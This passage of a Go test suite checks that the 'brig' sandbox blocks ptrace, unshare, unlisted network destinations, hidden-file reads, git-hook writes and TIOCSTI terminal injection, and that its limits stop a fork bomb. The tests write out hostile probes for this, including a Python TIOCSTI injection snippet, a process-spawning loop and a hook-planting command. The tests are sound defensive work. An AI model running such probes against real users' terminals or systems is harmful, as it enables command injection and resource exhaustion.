// its memory or write it; --allow-ptrace (for debuggers) lets it.
func TestSandboxPtrace(t *testing.T) {
	if _, err := os.Stat("/usr/bin/python3"); err != nil {
		t.Skip("no python3")
	}
	r := sandbox(t, "/", "--", "python3", "-c", ptraceProbe)
	for _, want := range []string{"attach Operation not permitted", "vm_readv Operation not permitted"} {
		contains(t, r.stdout, want, "ptrace between sandboxed processes")
	}
	if out, _ := exec.Command(brigBin, "features").Output(); !strings.Contains(string(out), `"io.github.brig.landlock.abi": "0"`) {
		contains(t, r.stdout, "mem_write Permission denied", "writing a sibling's memory through /proc")
	}
	r = sandbox(t, "/", "--allow-ptrace", "--", "python3", "-c", ptraceProbe)
	for _, want := range []string{"attach ok", "vm_readv ok"} {
		contains(t, r.stdout, want, "the control, --allow-ptrace")
	}
}

// TestSandboxHelp: brig run -- --help shows the usage (no program is
// called --help), as brig run --help does.
func TestSandboxHelp(t *testing.T) {
	for _, args := range [][]string{{"--", "--help"}, {"--", "-h"}} {
		r := sandbox(t, "/", args...)
		if r.code != 0 || !strings.Contains(r.stdout, "Usage: brig run [flags] -- CMD") || !strings.Contains(r.stdout, "-allow-ptrace") {
			t.Errorf("brig run %v: exit %d, stdout %q, stderr %q", args, r.code, r.stdout, r.stderr)
		}
	}
}

// TestSandboxReport: --report lists, when the command ends, what each
// layer refused — a system call, a name, a destination, a fork at the
// process limit — with the flag that would allow it; --report-format json
// says the same as JSON. Each probe is refused without --report too (the
// report adds nothing but the list).
func TestSandboxReport(t *testing.T) {
	if _, err := exec.LookPath("slirp4netns"); err != nil {
		t.Skip("slirp4netns is not installed (make deps installs it)")
	}
	dns := zone(t, nil)
	probe := `unshare -m true 2>/dev/null || echo unshare-refused
busybox nc -w 2 198.51.100.7 80 </dev/null 2>/dev/null || echo connect-refused
busybox nc -w 2 not-allowed.test 443 </dev/null 2>/dev/null || echo name-refused
for i in 1 2 3 4 5 6 7 8 9 10 11 12; do sleep 1 & done 2>/dev/null; wait; echo end`
	args := []string{"--pids-limit", "8", "--allow-net", "192.0.2.1", "--dns-upstream", dns, "--", "sh", "-c", probe}
	r := sandbox(t, "/", append([]string{"--report"}, args...)...)
	for _, want := range []string{"unshare-refused", "connect-refused", "name-refused"} {
		contains(t, r.stdout, want, "the probes")
	}
	for _, want := range []string{
		"brig: what the sandbox refused:",
		"seccomp  unshare (EPERM) ×1 (unshare)", "allow: --cap-add SYS_ADMIN",
		"dns      not-allowed.test", "allow: --allow-net not-allowed.test:PORT",
		"network  198.51.100.7:80", "allow: --allow-net 198.51.100.7:80",
		"limits   fork refused at the process limit", "allow: --pids-limit N, larger",
	} {
		contains(t, r.stderr, want, "the report")
	}
	r = sandbox(t, "/", append([]string{"--report", "--report-format", "json"}, args...)...)
	var rep struct {
		Refused []struct{ Layer, What, Allow string }
	}
	if err := json.Unmarshal([]byte(r.stderr[strings.Index(r.stderr, "{"):]), &rep); err != nil {
		t.Fatalf("JSON report: %v: %s", err, r.stderr)
	}
	layers := map[string]bool{}
	for _, e := range rep.Refused {
		layers[e.Layer] = true
	}
	for _, l := range []string{"seccomp", "dns", "network", "limits"} {
		if !layers[l] {
			t.Errorf("JSON report has no %s entry: %+v", l, rep.Refused)
		}
	}
	// The control: the same run without --report refuses the same, and
	// lists nothing.
	r = sandbox(t, "/", args...)
	contains(t, r.stdout, "unshare-refused", "without --report")
	notContains(t, r.stderr, "what the sandbox refused", "without --report")
	if r := sandbox(t, "/", "--report", "--report-format", "xml", "--", "true"); r.code != 2 || !strings.Contains(r.stderr, "--report-format") {
		t.Errorf("--report-format xml: exit %d: %s", r.code, r.stderr)
	}
}

// TestSandboxReportRootless: without root too, --report lists what
// seccomp refused (brig's listener gets the filter's fd with SCM_RIGHTS:
// pidfd_getfd can't take it from an init that is not dumpable), and with
// --report-files the files the sandbox refused, as root's report does.
func TestSandboxReportRootless(t *testing.T) {
	if data, err := os.ReadFile("/proc/sys/kernel/unprivileged_userns_clone"); err == nil && strings.TrimSpace(string(data)) == "0" {
		t.Skip("unprivileged user namespaces are disabled on this host")
	}
	r := sandboxAs(t, rootlessUID, "/", "--report", "--", "sh", "-c", "unshare -m true 2>/dev/null || echo unshare-refused")
	if r.code != 0 {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	contains(t, r.stdout, "unshare-refused", "the probe")
	contains(t, r.stderr, "seccomp  unshare (EPERM) ×1 (unshare)", "the rootless report")
	// it has no file list (eBPF needs root), says so, and how to get one
	contains(t, r.stderr, "brig: the files list is incomplete: no file list: recording needs root", "the rootless report")
	contains(t, r.stderr, "--report-files lists them without root", "the rootless report")

	// --report-files: without root the eBPF recorder can't load, and the
	// seccomp listener looks at the path-taking calls instead. The same
	// probes as TestSandboxReportFiles, and one the eBPF recorder
	// places only from the command's first working directory: a path
	// relative to a directory the command changed to.
	h, err := os.MkdirTemp("", "brig-report-rootless-")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(h)
	os.Chmod(h, 0o755)
	for _, d := range []string{"hid", "ro/sub", "rw/.git/hooks"} {
		os.MkdirAll(filepath.Join(h, d), 0o755)
	}
	os.WriteFile(filepath.Join(h, "hid", "secret"), []byte("s3cret\n"), 0o644)
	os.WriteFile(filepath.Join(h, "ro", "f"), nil, 0o644)
	os.WriteFile(filepath.Join(h, "rw", ".git", "config"), nil, 0o644)
	filepath.Walk(h, func(p string, _ os.FileInfo, _ error) error { return os.Chown(p, rootlessUID, rootlessUID) })
	probe := `cat ` + h + `/hid/secret 2>/dev/null || echo hidden
echo x 2>/dev/null > ` + h + `/ro/f || echo ro-refused
echo '#!/bin/sh' 2>/dev/null > .git/hooks/pre-commit || echo hook-refused
cat ` + h + `/nowhere 2>/dev/null; echo ok > written
(cd ` + h + `/ro/sub && touch new 2>/dev/null || echo sub-refused)
cd /usr && touch made 2>/dev/null || echo root-refused; true`
	ctl := exec.Command("sh", "-c", strings.ReplaceAll(probe, "cd /usr", "cd "+h))
	ctl.Dir = filepath.Join(h, "rw")
	if out, err := ctl.CombinedOutput(); err != nil || !strings.Contains(string(out), "s3cret") || strings.Contains(string(out), "refused") {
		t.Fatalf("the control: %v: %s", err, out)
	}
	for _, f := range []string{"rw/.git/hooks/pre-commit", "rw/written", "ro/sub/new", "made"} {
		os.Remove(filepath.Join(h, f))
	}
	os.WriteFile(filepath.Join(h, "ro", "f"), nil, 0o644)
	r = sandboxAs(t, rootlessUID, filepath.Join(h, "rw"), "--report", "--report-files", "--ro", filepath.Join(h, "ro"), "--rw", filepath.Join(h, "rw"), "--", "sh", "-c", probe)
	if r.code != 0 {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	for _, want := range []string{"hidden", "ro-refused", "hook-refused", "sub-refused", "root-refused"} {
		contains(t, r.stdout, want, "the probes")
	}
	for _, want := range []string{
		"files    " + h + "/hid/secret (not in the sandbox)", "allow: --ro " + h + "/hid/secret",
		"files    " + h + "/ro/f (read-only in the sandbox)", "allow: --rw " + h + "/ro/f",
		"files    " + h + "/rw/.git/hooks/pre-commit (protected: read-only)", "allow: --unprotect .git/hooks",
		"files    " + h + "/ro/sub/new (read-only in the sandbox)", "allow: --rw " + h + "/ro/sub",
		"files    /usr/made (",
	} {
		contains(t, r.stderr, want, "the rootless report")
	}
	for _, not := range []string{"nowhere", "written", "incomplete"} {
		notContains(t, r.stderr, not, "the rootless report")
	}
}

// TestSandboxReportFiles: as root, --report lists the paths the command
// failed on because of the sandbox, with the flag that allows each: a
// host file it doesn't show, a write to a read-only path, a write to a
// protected one (a git hook). A file missing on the host too, and a
// write the sandbox allows, are not listed. The control: the same probes
// on the host succeed.
func TestSandboxReportFiles(t *testing.T) {
	h, err := os.MkdirTemp(workDir, "report-files-")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(h)
	for _, d := range []string{"hid", "ro", "rw/.git/hooks"} {
		os.MkdirAll(filepath.Join(h, d), 0o755)
	}
	os.WriteFile(filepath.Join(h, "hid", "secret"), []byte("s3cret\n"), 0o644)
	os.WriteFile(filepath.Join(h, "ro", "f"), nil, 0o644)
	os.WriteFile(filepath.Join(h, "rw", ".git", "config"), nil, 0o644)
	os.WriteFile(filepath.Join(h, "rw", ".git", "HEAD"), []byte("ref: refs/heads/main\n"), 0o644)
	probe := `cat ` + h + `/hid/secret 2>/dev/null || echo hidden
echo x 2>/dev/null > ` + h + `/ro/f || echo ro-refused
echo '#!/bin/sh' 2>/dev/null > .git/hooks/pre-commit || echo hook-refused
cat ` + h + `/nowhere 2>/dev/null; echo ok > written; true`
	// The control: on the host, every probe works.
	ctl := exec.Command("sh", "-c", probe)
	ctl.Dir = filepath.Join(h, "rw")
	out, err := ctl.CombinedOutput()
	if err != nil || !strings.Contains(string(out), "s3cret") || strings.Contains(string(out), "refused") {
		t.Fatalf("the control: %v: %s", err, out)
	}
	os.Remove(filepath.Join(h, "rw", ".git", "hooks", "pre-commit"))
	r := sandbox(t, filepath.Join(h, "rw"), "--report", "--ro", filepath.Join(h, "ro"), "--rw", filepath.Join(h, "rw"), "--", "sh", "-c", probe)
	if r.code != 0 {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	for _, want := range []string{"hidden", "ro-refused", "hook-refused"} {
		contains(t, r.stdout, want, "the probes")
	}
	for _, want := range []string{
		"files    " + h + "/hid/secret (not in the sandbox)", "allow: --ro " + h + "/hid/secret",
		"files    " + h + "/ro/f (read-only in the sandbox)", "allow: --rw " + h + "/ro/f",
		"files    " + h + "/rw/.git/hooks/pre-commit (protected: read-only)", "allow: --unprotect .git/hooks",
	} {
		contains(t, r.stderr, want, "the report")
	}
	for _, not := range []string{"nowhere", "written", "incomplete"} {
		notContains(t, r.stderr, not, "the report")
	}
	// More distinct failed paths than the recorder keeps: the report
	// says its file list is incomplete, rather than passing over them.
	many := probe + `; i=0; while [ $i -lt 4200 ]; do [ -e /no/such/$i ]; i=$((i+1)); done`
	r = sandbox(t, filepath.Join(h, "rw"), "--report", "--report-format", "json", "--ro", filepath.Join(h, "ro"), "--", "sh", "-c", many)
	var rep struct {
		Refused    []struct{ Layer, What, Allow string }
		Incomplete []struct{ Layer, Why string }
	}
	if err := json.Unmarshal([]byte(r.stderr[strings.Index(r.stderr, "{"):]), &rep); err != nil {
		t.Fatalf("JSON report: %v: %s", err, r.stderr)
	}
	found := false
	for _, e := range rep.Refused {
		found = found || (e.Layer == "files" && e.Allow == "--ro "+h+"/hid/secret")
	}
	if !found {
		t.Errorf("JSON report has no files entry for the hidden file: %+v", rep.Refused)
	}
	if len(rep.Incomplete) != 1 || rep.Incomplete[0].Layer != "files" || !strings.Contains(rep.Incomplete[0].Why, "were not kept") {
		t.Errorf("JSON report of 4,200 missing paths: incomplete %+v, want the files list marked", rep.Incomplete)
	}
}

// TestSandboxNoTerminalInjection: started from a terminal without -t, the
// command is in a session of its own, so TIOCSTI into the caller's
// terminal (a planted command typed into their shell) is refused; the
// control, the same probe run directly from that terminal, injects.
func TestSandboxNoTerminalInjection(t *testing.T) {
	if _, err := os.Stat("/usr/bin/python3"); err != nil {
		t.Skip("no python3")
	}
	const inject = `import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
c = ctypes.c_char(b"#")
r = libc.ioctl(0, ctypes.c_ulong(0x5412), ctypes.byref(c))
print("TIOCSTI", "injected" if r == 0 else os.strerror(ctypes.get_errno()))`
	script := filepath.Join(t.TempDir(), "inject.py")
	os.WriteFile(script, []byte(inject), 0o644)
	root := sandboxRoot(t)
	onTerminal := func(args ...string) string {
		t.Helper()
		ptm, err := os.OpenFile("/dev/ptmx", os.O_RDWR|syscall.O_NOCTTY, 0)
		if err != nil {
			t.Skip("no /dev/ptmx")
		}
		defer ptm.Close()
		if err := unix.IoctlSetPointerInt(int(ptm.Fd()), unix.TIOCSPTLCK, 0); err != nil {
			t.Fatal(err)
		}
		n, err := unix.IoctlGetInt(int(ptm.Fd()), unix.TIOCGPTN)
		if err != nil {
			t.Fatal(err)
		}
		pts, err := os.OpenFile("/dev/pts/"+strconv.Itoa(n), os.O_RDWR|syscall.O_NOCTTY, 0)
		if err != nil {
			t.Fatal(err)
		}
		defer pts.Close()
		cmd := exec.Command(args[0], args[1:]...)
		cmd.Stdin, cmd.Stdout, cmd.Stderr = pts, pts, pts
		// The terminal is the caller's controlling one, as a user's shell's.
		cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true, Ctty: 0}
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		var out strings.Builder
		done := make(chan struct{})
		go func() { io.Copy(&out, ptm); close(done) }()
		cmd.Wait()
		pts.Close()
		select {
		case <-done:
		case <-time.After(5 * time.Second):
		}
		return out.String()
	}
	if out := onTerminal("python3", script); !strings.Contains(out, "TIOCSTI injected") {
		t.Skipf("TIOCSTI is refused on this kernel anyway (dev.tty.legacy_tiocsti=0): %q", out)
	}
	out := onTerminal(brigBin, "--root", root, "run", "--ro", script, "--", "python3", script)
	contains(t, out, "TIOCSTI Operation not permitted", "TIOCSTI from brig run -- without -t")
	// With -t the command has a terminal of its own, where the kernel
	// lets it type: the built-in profile refuses TIOCSTI there (a rule on
	// ioctl's request, although ioctl is allowed); the control, without
	// seccomp, types.
	out = onTerminal(brigBin, "--root", root, "run", "-t", "--ro", script, "--", "python3", script)
	contains(t, out, "TIOCSTI Operation not permitted", "TIOCSTI on its own terminal (-t)")
	out = onTerminal(brigBin, "--root", root, "run", "-t", "--security-opt", "seccomp=unconfined", "--ro", script, "--", "python3", script)
	contains(t, out, "TIOCSTI injected", "control: -t without seccomp")
	if ents := leftIn(root); len(ents) != 0 {
		t.Errorf("left: %v", ents)
	}
}

// TestSandboxDefaultBounds: without limit flags a sandbox is bounded —
// 2048 processes, half the host's memory, a /tmp of a quarter of it —
// as brig inspect shows from its cgroup; 0 lifts a bound; a fork bomb
// stops at the bound.
func TestSandboxDefaultBounds(t *testing.T) {
	root := sandboxRoot(t)
	brig := func(args ...string) result {
		return runCmd(exec.Command(brigBin, append([]string{"--root", root}, args...)...))
	}
	var si unix.Sysinfo_t
	unix.Sysinfo(&si)
	half := strconv.FormatUint(si.Totalram*uint64(si.Unit)/2&^(2<<20-1), 10)
	for _, tc := range []struct {
		name        string
		flags       []string
		pids, mem   string
		tmpMax, tmp string
	}{
		{"defaults", nil, "2048", half, "", ""},
		{"lifted", []string{"--pids-limit", "0", "--memory", "0"}, "max", "", "", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := brig(append(append([]string{"run", "-d", "--name", "bounds"}, tc.flags...), "--", "sleep", "60")...)
			if r.code != 0 {
				t.Fatalf("run -d: %s", r.stderr)
			}
			defer brig("delete", "--force", "bounds")
			if tc.name == "defaults" {
				sandboxCgroups(t, brig("state", "bounds").stdout)
				// so in cgroup v1 a cpuset limit can't be set afterwards:
				// refused, saying why (in v2 its one cgroup has cpuset)
				_, err := os.Stat("/sys/fs/cgroup/cgroup.controllers")
				if r := brig("update", "--cpuset-cpus", "0", "bounds"); err != nil && (r.code == 0 || !strings.Contains(r.stderr, "no cpuset cgroup")) {
					t.Errorf("update --cpuset-cpus of a sandbox: exit %d, %q; want a refusal naming the cpuset cgroup", r.code, r.stderr)
				} else if err == nil && r.code != 0 {
					t.Errorf("update --cpuset-cpus of a sandbox in cgroup v2: exit %d, %s", r.code, r.stderr)
				}
			}
			out := brig("inspect", "bounds").stdout
			contains(t, out, "cgroup pids: "+tc.pids+"\n", "the pids limit")
			if tc.mem != "" {
				contains(t, out, "cgroup memory: "+tc.mem+"\n", "the memory limit")
			} else {
				notContains(t, out, "cgroup memory: "+half, "no memory limit")
			}
		})
	}
	// /tmp is sized a quarter of the host's memory.
	r := sandbox(t, "/", "--", "sh", "-c", "df -k /tmp | tail -1")
	if f := strings.Fields(r.stdout); len(f) < 2 {
		t.Fatalf("df: %q %s", r.stdout, r.stderr)
	} else if kb, _ := strconv.ParseUint(f[1], 10, 64); kb == 0 || kb > si.Totalram*uint64(si.Unit)/4/1024+1024 {
		t.Errorf("/tmp is %d kB, want a quarter of the host's memory at most", kb)
	}
	// A fork bomb stops at the default bound.
	r = sandbox(t, "/", "--", "sh", "-c", "n=0; while [ $n -lt 2100 ]; do sleep 30 & n=$((n+1)); done 2>&1 | head -1; echo spawned")
	contains(t, strings.ToLower(r.stdout+r.stderr), "fork", "2100 processes against the default bound")
}

// sandboxCgroups: the sandbox of this state is in its own cgroup in
// every v1 hierarchy but cpuset, which it joins only for a cpuset limit
// (brig run has none): its first cgroup costs the kernel a text patch.
func sandboxCgroups(t *testing.T, stateJSON string) {
	t.Helper()
	var st struct {
		ID  string
		Pid int
	}
	json.Unmarshal([]byte(stateJSON), &st)
	data, err := os.ReadFile(fmt.Sprintf("/proc/%d/cgroup", st.Pid))
	if err != nil || st.ID == "" {
		t.Fatalf("state %q: %v", stateJSON, err)
	}
	own := "/brig/" + st.ID
	for _, l := range strings.Split(strings.TrimSpace(string(data)), "\n") {
		f := strings.SplitN(l, ":", 3)
		switch {
		case len(f) != 3:
		case f[1] == "cpuset" && strings.HasPrefix(f[2], "/brig"):
			t.Errorf("the sandbox joined a cpuset cgroup: %s", l)
		case (f[1] == "memory" || f[1] == "pids") && f[2] != own:
			t.Errorf("the sandbox is not in its own cgroup: %s, want %s", l, own)
		}
	}
}

// TestSandboxUnsearchableRoot: a state root others can't search (0700, as
// mktemp makes) can't hold the command's root directory, which its user
// namespace reaches as another user: brig run refuses it in one line
// naming --root, before making anything; the same root made 0711 works.
func TestSandboxUnsearchableRoot(t *testing.T) {
	root := sandboxRoot(t)
	os.Chmod(root, 0o700)
	r := runCmd(exec.Command(brigBin, "--root", root, "run", "--", "true"))
	if r.code != 2 || !strings.Contains(r.stderr, "--root "+root+": mode 0700") {
		t.Errorf("0700 root: exit %d: %s", r.code, r.stderr)
	}
	if ents := leftIn(root); len(ents) != 0 {
		t.Errorf("left: %v", ents)
	}
	os.Chmod(root, 0o711)
	if r := runCmd(exec.Command(brigBin, "--root", root, "run", "--", "true")); r.code != 0 {
		t.Errorf("0711 root: exit %d: %s", r.code, r.stderr)
	}
}
